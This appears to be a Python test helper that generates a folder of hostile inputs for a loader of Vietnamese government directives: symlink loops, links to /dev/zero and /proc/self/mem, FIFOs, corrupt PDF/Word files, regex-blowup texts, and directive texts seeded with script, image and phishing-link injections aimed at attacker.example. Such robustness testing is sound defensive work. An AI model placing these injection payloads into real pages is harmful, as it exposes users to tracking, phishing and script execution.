"""The hostile pack of issue 13, generated in a temporary folder: good texts of every format
beside every odd entry an officer's folder (or an attacker) can hold.

Each odd entry must fail with one line naming it (``failed: ENTRY: problem``) while every good
text loads. Good texts come from the project's own ``samples/`` and ``tests/fixtures``, so the
pack needs nothing outside the clone.
"""

from __future__ import annotations

import contextlib
import os
import random
import shutil
import socket
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"
FORMATS = ROOT / "tests" / "fixtures" / "formats"

# Good texts in other formats than .txt: the thuvienphapluat page and the PDF are other files of
# seed 000's Chỉ thị (recorded as its sources), the news page its own text.
GOOD_FIXTURES = ("html_tvpl_000.html", "html_news_002.html", "pdf_text_layer.pdf")

# An OLE container (Word 97-2003) and the name of a Word document's stream in it.
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
WORD_STREAM = "WordDocument".encode("utf-16-le")

HEADER = "THỦ TƯỚNG CHÍNH PHỦ\nSố: {number}\nHà Nội, ngày 10 tháng 5 năm 2024\n\nCHỈ THỊ\n\n"
SPACE_RUN = " " * 5_000
# Issue 13's reproduction, with longer runs: spaces between citations (text copied out of a PDF)
# cost 213 s of CPU in one pattern before it was rewritten.
SPACE_RUNS = (
    HEADER.format(number="12/CT-TTg")
    + f"Căn cứ Nghị định số 1/2020/NĐ-CP{SPACE_RUN}của Chính phủ và Nghị định số 2/2020/NĐ-CP"
    + f"{SPACE_RUN}và Nghị định số 3/2020/NĐ-CP.\n"
)
NESTED_BRACKETS = (
    HEADER.format(number="13/CT-TTg")
    + "Thực hiện "
    + "(" * 3_000
    + "Nghị định số 1/2020/NĐ-CP"
    + ")" * 3_000
    + ".\n"
    + "[{(“" * 1_000
    + "Quyết định số 749/QĐ-TTg"
    + "”)}]" * 1_000
    + "\n"
)
REPEATED_WORD = HEADER.format(number="14/CT-TTg") + "Nghị định " * 20_000 + "\n"


# Markup a web copy (or an attacker) can put into a text: every field the app shows (the title,
# the signer, the field, evidence sentences, tasks, agency names) gets some. Shown as text it is
# harmless; rendered, the browser would fetch the attacker's image and show a phishing link.
ATTACKER = "attacker.example"
IMAGE = f"![x](http://{ATTACKER}/x.png)"
LINK = f"[Đăng nhập lại](http://{ATTACKER}/p)"
RAW_IMAGE = f"<img src=http://{ATTACKER}/y>"
SCRIPT = f"<script>fetch('http://{ATTACKER}/s')</script>"
MARKUP = f"{IMAGE} {LINK} {RAW_IMAGE} {SCRIPT}"
MARKUP_DIRECTIVE_ID = "vn:09/CT-BTTTT@2024"
MARKUP_DIRECTIVE = f"""BỘ THÔNG TIN VÀ TRUYỀN THÔNG
CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM
Độc lập - Tự do - Hạnh phúc
Số: 09/CT-BTTTT
Hà Nội, ngày 12 tháng 3 năm 2024

CHỈ THỊ
Về việc bảo đảm an toàn thông tin {MARKUP}

Căn cứ Nghị định số 42/2022/NĐ-CP ngày 24/6/2022 của Chính phủ {IMAGE} {LINK} {RAW_IMAGE};
Thực hiện Chương trình “Chuyển đổi số {LINK} {IMAGE}” được phê duyệt tại Quyết định số \
749/QĐ-TTg ngày 03/6/2020 {RAW_IMAGE}, Bộ trưởng Bộ Thông tin và Truyền thông chỉ thị:

1. Lĩnh vực an toàn thông tin {IMAGE}
- Cục An toàn thông tin chủ trì, phối hợp với Văn phòng Bộ rà soát {LINK} {RAW_IMAGE} theo Nghị \
định số 43/2011/NĐ-CP ngày 13/6/2011 của Chính phủ; hoàn thành trong Quý II/2024.
- Trung tâm Thông tin chủ trì cập nhật {IMAGE} {SCRIPT}; hoàn thành trước ngày 30/6/2024.

BỘ TRƯỞNG
{LINK}
"""
# A thuvienphapluat copy: markup in the header block's issuer, signer and field too.
MARKUP_COPY_ID = "vn:10/CT-BTTTT@2024"
MARKUP_COPY = f"""Số hiệu: 10/CT-BTTTT
Loại văn bản: Chỉ thị
Nơi ban hành: Bộ Thông tin và Truyền thông {RAW_IMAGE}
Người ký: {LINK}
Ngày ban hành: 15/03/2024
Lĩnh vực: {IMAGE}

BỘ THÔNG TIN VÀ TRUYỀN THÔNG
Số: 10/CT-BTTTT
Hà Nội, ngày 15 tháng 3 năm 2024

CHỈ THỊ
Về {LINK} {IMAGE}

Thực hiện Chỉ thị số 09/CT-BTTTT ngày 12/3/2024 {LINK} {RAW_IMAGE}, Bộ trưởng chỉ thị:
1. Cục Báo chí chủ trì triển khai Chỉ thị số 09/CT-BTTTT {IMAGE}; hoàn thành trong Quý III/2024.
"""

# The good texts written here, by file name.
HOSTILE_TEXTS = {
    "khoang_trang.txt": SPACE_RUNS,
    "ngoac.txt": NESTED_BRACKETS,
    "lap_tu.txt": REPEATED_WORD,
    "an_toan.txt": MARKUP_DIRECTIVE,
    "bao_chi.txt": MARKUP_COPY,
}


@dataclass
class Pack:
    """A generated folder: what must load, and what must fail, each with a word of its line."""

    folder: Path
    good: list[Path] = field(default_factory=list)  # must be in the store afterwards
    bad: dict[str, str] = field(default_factory=dict)  # entry as printed → a word of its line
    vanishing: Path | None = None  # to remove between listing and reading (see vanish_after)


def make_pack(folder: Path) -> Pack:
    """Write the hostile pack into ``folder`` (created)."""
    folder.mkdir(parents=True)
    pack = Pack(folder)

    def good(path: Path) -> None:
        pack.good.append(path)

    def bad(name: str, word: str) -> None:
        pack.bad[f"{folder}/{name}"] = word

    for sample in sorted(SAMPLES.glob("*.txt")):
        shutil.copy(sample, folder / sample.name)
        good(folder / sample.name)
    for name in GOOD_FIXTURES:
        shutil.copy(FORMATS / name, folder / name)
        good(folder / name)
    # A directory named like a text is a folder like any other: the text in it loads.
    (folder / "van_ban.txt").mkdir()
    for name, text in HOSTILE_TEXTS.items():
        path = folder / "van_ban.txt" / name if name == "khoang_trang.txt" else folder / name
        path.write_text(text, encoding="utf-8")
        good(path)

    # A name that is not UTF-8 (from an old Windows machine): printed with \xNN escapes.
    with open(os.fsencode(folder) + b"/qd_\xe9\xff.txt", "wb") as handle:
        handle.write((SAMPLES / "000_35021ff682a48c90.txt").read_bytes())
    bad("qd_\\xe9\\xff.txt", "not valid utf-8")
    os.symlink(folder / "vong_b.txt", folder / "vong_a.txt")  # a link loop
    os.symlink(folder / "vong_a.txt", folder / "vong_b.txt")
    bad("vong_a.txt", "too many levels of symbolic links")
    bad("vong_b.txt", "too many levels of symbolic links")
    os.symlink(folder / "da_xoa.txt", folder / "lien_ket_hong.txt")  # dangling
    bad("lien_ket_hong.txt", "no such file")
    os.mkfifo(folder / "ong.txt")  # opening it would block forever
    bad("ong.txt", "not a regular file")
    # Binding leaves a socket file behind; by a relative name, since a socket's path may not be
    # longer than 107 bytes (a deep temporary directory is).
    with socket.socket(socket.AF_UNIX) as sock, contextlib.chdir(folder):
        sock.bind("o_cam.txt")
    bad("o_cam.txt", "not a regular file")
    os.symlink("/dev/zero", folder / "x.txt")  # endless
    bad("x.txt", "it is a link to /dev/zero")
    os.symlink("/dev/null", folder / "rong_mai.txt")
    bad("rong_mai.txt", "it is a link to /dev/null")
    # Unreadable even for root (a chmod 000 file is not): a read of another process's memory at
    # address 0 fails with EIO (or opening it is refused, where ptrace is restricted).
    os.symlink("/proc/self/mem", folder / "bo_nho.txt")
    bad("bo_nho.txt", "it is a link to /proc/")
    (folder / "rong.txt").write_bytes(b"")
    bad("rong.txt", "empty")
    (folder / "nul.txt").write_bytes(b"S\xe1\xbb\x91: 01/CT-TTg\x00\x00\x00" * 100)
    bad("nul.txt", "nul bytes")
    with (folder / "khong_lo.txt").open("wb") as handle:
        handle.truncate(50 * 2**20)  # over the 20 MiB limit of a text; sparse, so cheap
    bad("khong_lo.txt", "mib")
    (folder / "bien_mat.txt").write_bytes((SAMPLES / "002_923357323978f796.txt").read_bytes())
    pack.vanishing = folder / "bien_mat.txt"
    bad("bien_mat.txt", "no such file")

    junk = random.Random(13).randbytes(20_000)
    for name in ("rac.pdf", "rac.docx", "rac.doc"):  # binary junk under a text suffix
        (folder / name).write_bytes(junk)
        bad(name, "damaged, or renamed")
    # Junk that starts like the format it is named: each reader must reject it, not crash.
    (folder / "hong.pdf").write_bytes(b"%PDF-1.7\n" + junk + b"\n%%EOF\n")
    bad("hong.pdf", "damaged pdf")
    (folder / "hong.docx").write_bytes(b"PK\x03\x04" + junk)
    bad("hong.docx", "damaged word document")
    (folder / "hong.doc").write_bytes(OLE_MAGIC + junk[:2_000] + WORD_STREAM + junk)
    bad("hong.doc", "word 97-2003")
    (folder / "long_nhau.html").write_bytes(b"<html><body>" + b"<div>" * 100_000)
    bad("long_nhau.html", "nests its elements")
    return pack


# `python -m loader`, with the pack's vanishing file removed once the folder is listed and
# before any worker reads it: the only way to make "vanished between listing and reading" happen
# every time. Everything else is the CLI itself, run as `python -m loader` runs it.
VANISH_AFTER_LISTING = """
import os, runpy, sys
from loader import pipeline

listed = pipeline.list_files

def list_then_remove(paths):
    found = listed(paths)
    os.unlink({vanishing!r})
    return found

pipeline.list_files = list_then_remove
runpy.run_module("loader", run_name="__main__", alter_sys=True)
"""


def vanish_after(pack: Pack) -> str:
    """The ``python -c`` program that runs the loader on ``pack`` (see VANISH_AFTER_LISTING)."""
    assert pack.vanishing is not None
    return VANISH_AFTER_LISTING.format(vanishing=str(pack.vanishing))
